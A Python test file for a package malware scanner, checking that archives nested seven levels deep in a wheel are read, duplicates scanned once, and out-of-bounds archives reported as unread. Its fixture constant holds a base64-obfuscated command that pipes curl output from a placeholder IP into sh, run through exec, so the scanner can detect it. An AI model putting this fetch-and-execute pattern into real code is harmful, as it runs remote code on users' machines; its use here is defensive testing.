"""Archives nested deep inside a package are read, and a copy met again is read once.

ibm-watsonx-orchestrate ships each older release of itself inside the next (wheel and sdist,
seven levels down). The scan stopped at about five levels and called the rest "not
reviewed", high: a false alarm on a package whose every archive is the same project. Deeper
levels are now opened from memory (bounded by depth and by a count of distinct archives),
copies of one archive are scanned once, and what lies past the bounds is still unread.
"""

from __future__ import annotations

import base64

from app.core.archive import open_artifact
from app.core.capabilities import nested
from app.core.capabilities.scan import scan_artifact
from tests.core.archive.fixtures import wheel_entries, zip_bytes

HIGH = ("high", "critical")
PAYLOAD = base64.b64encode(b"import os; os.system('curl http://192.0.2.9/x | sh')").decode()
DECODE_EXEC = f"import base64\nexec(base64.b64decode('{PAYLOAD}'))\n"


def _release(version: str, inner: dict[str, bytes], module: str = "VERSION = 1\n") -> bytes:
    """A wheel of the project ``sdk`` at ``version`` carrying ``inner`` in its ``docker/`` folder
    (the way each release bundles the ones before it)."""
    files = {"sdk/__init__.py": module.encode()}
    files.update({f"sdk/docker/{name}": data for name, data in inner.items()})
    return zip_bytes(wheel_entries("sdk", version, files))


def _chain(levels: int, innermost: str = "VERSION = 1\n") -> bytes:
    """``levels`` releases, each inside the next; each also carries a copy of the one before
    under a second name, as a release ships both the wheel and the sdist of its predecessor."""
    data = _release("0.0.1", {}, innermost)
    for n in range(2, levels + 1):
        name = f"sdk-0.0.{n - 1}-py3-none-any.whl"
        unpacks = f"import zipfile\nBUNDLED = {name!r}\n"  # the code names what it unpacks
        data = _release(f"0.0.{n}", {name: data, f"copy/{name}": data}, unpacks)
    return data


def _scan(tmp_path, data: bytes):
    path = tmp_path / "sdk-9.0-py3-none-any.whl"
    path.write_bytes(data)
    return scan_artifact(open_artifact(path))


def _unread(result):
    return [h for h in result.findings if h.capability == "scan.unread"]


def test_a_release_carrying_seven_levels_of_its_own_older_releases_is_read_in_full(tmp_path):
    result = _scan(tmp_path, _chain(8))
    assert _unread(result) == []
    assert result.skipped == []
    assert result.risk.level not in HIGH
    assert result.files_scanned > 8  # every level's module was read


def test_a_payload_seven_levels_down_is_found(tmp_path):
    result = _scan(tmp_path, _chain(8, innermost=DECODE_EXEC))
    strong = {t.id for t in result.threats if t.severity in HIGH}
    assert "chain.decode_exec" in strong, strong
    deepest = [h.path for h in result.findings if h.path.endswith("sdk/__init__.py")]
    assert max(p.count("!/") for p in deepest) == 7


def test_a_copy_of_an_archive_read_once_is_reported_under_each_path(tmp_path):
    bad = _release("0.1", {}, DECODE_EXEC)
    middle = zip_bytes({"a/bad.whl": bad, "b/same.whl": bad})
    result = _scan(tmp_path, _release("1.0", {"bundle.zip": middle}))
    paths = {h.path for h in result.findings if h.capability == "exec.decode_then_exec"}
    assert any("a/bad.whl!/sdk/__init__.py" in p for p in paths), paths
    assert any("b/same.whl!/sdk/__init__.py" in p for p in paths), paths


def test_an_archive_nested_past_the_depth_bound_is_still_unread_and_high(tmp_path):
    result = _scan(tmp_path, _chain(2 * nested.MAX_NESTED_SCANS + 4))
    unread = _unread(result)
    assert unread and all(h.severity in HIGH for h in unread)
    assert result.risk.level in HIGH


def test_past_the_count_of_distinct_archives_the_rest_are_unread(tmp_path, monkeypatch):
    monkeypatch.setattr(nested, "MAX_NESTED_ARCHIVES", 2)
    releases = {f"r{n}.whl": _release(f"0.{n}", {}, f"VERSION = {n}\n") for n in range(4)}
    middle = zip_bytes(releases)
    unpacks = f"import zipfile\nBUNDLED = {sorted(releases)!r}\n"
    result = _scan(tmp_path, _release("1.0", {"bundle.zip": middle}, unpacks))
    unread = _unread(result)
    assert len(unread) == 2
    assert "more than 2 distinct archives" in unread[0].explanation
    assert result.risk.level in HIGH
